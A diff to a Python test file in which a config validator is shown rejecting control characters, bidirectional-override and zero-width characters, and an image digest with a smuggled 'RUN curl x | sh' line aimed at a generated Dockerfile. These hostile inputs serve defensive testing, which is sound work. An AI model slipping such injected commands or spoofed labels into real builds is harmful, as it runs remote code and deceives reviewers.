@@ -63,6 +63,13 @@ def test_write_refuses_what_the_schema_refuses(tmp_path):
      "upstreams.site.label: 'v1\\nall 3 patches apply' is empty or holds a control character"),
     (lambda d: d["upstreams"]["vllm"].update(version="0.1\x1b[2J"),
      "upstreams.vllm.version: '0.1\\x1b[2J' is empty or holds a control character"),
+    # A bidirectional override shows `v1 \u202e0.2v` as "v1 v2.0": another version than pinned.
+    (lambda d: d["upstreams"]["site"].update(label="v1 \u202e0.2v"),
+     "upstreams.site.label: 'v1 \\u202e0.2v' is empty or holds a control character or an "
+     "invisible one (zero-width, bidirectional)"),
+    (lambda d: d["upstreams"]["vllm"].update(version="0.1\u200b"),
+     "upstreams.vllm.version: '0.1\\u200b' is empty or holds a control character or an "
+     "invisible one"),
     # The image pin goes into the generated Dockerfile's FROM line: a newline would add a step.
     (lambda d: d["image"].update(digest="sha256:" + "d" * 64 + "\nRUN curl x | sh"),
      "image.digest: 'sha256:" + "d" * 64 + "\\nRUN curl x | sh' is not sha256:"),
